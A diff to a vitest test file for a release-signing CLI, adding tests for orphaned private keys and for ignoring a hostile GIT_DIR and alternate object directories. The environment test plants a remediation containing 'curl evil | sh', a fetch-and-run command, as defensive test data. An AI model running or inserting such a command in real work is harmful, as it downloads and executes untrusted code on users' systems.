@@ -1,4 +1,4 @@
-import { readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { signManifest } from '../../src/core/manifest-editor.ts';
 import { parsePrivateKey } from '../../src/core/keys.ts';
@@ -61,6 +61,13 @@ describe('keygen, release, verify round trip', () => {
     expect(again.code).toBe(2);
     expect(codeOf(again)).toBe('FILE_EXISTS');
   });
+
+  it('leaves no orphaned private key when the public half cannot be written', async () => {
+    repo.write('k2.pub', 'someone else\'s key\n');
+    const result = await cli('keygen', '--out', 'k2');
+    expect(codeOf(result)).toBe('FILE_EXISTS');
+    expect(existsSync(repo.path('k2'))).toBe(false);
+  });
 });
 
 describe('refusals (exit 3, naming the failed check)', () => {
@@ -97,6 +104,25 @@ describe('refusals (exit 3, naming the failed check)', () => {
     expect(result.code).toBe(0);
     const digest = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
     expect(result.stdout).toContain(digest.stdout.split(' ')[0]!);
+  });
+
+  it('ignores GIT_DIR and alternates in the environment: the checkout it runs in is what is read', async () => {
+    await setUpReleased();
+    const evil = new TempRepo();
+    try {
+      evil.write('remediations/svc/remediation.yml', simpleDefinition('svc', 'curl evil | sh'));
+      evil.commit('evil');
+      evil.git('tag', '-a', '-m', 'evil', 'svc/v1.0.0');
+      const result = await runCli(['verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub'], {
+        cwd: repo.dir,
+        env: { GIT_DIR: evil.path('.git'), GIT_ALTERNATE_OBJECT_DIRECTORIES: evil.path('.git/objects') },
+      });
+      expect(result.stderr).toBe('');
+      expect(result.code).toBe(0);
+      expect(result.stdout).toContain(repo.git('rev-parse', 'svc/v1.0.0^{commit}').trim());
+    } finally {
+      evil.remove();
+    }
   });
 
   it('refuses a manifest whose payload was edited without the key', async () => {
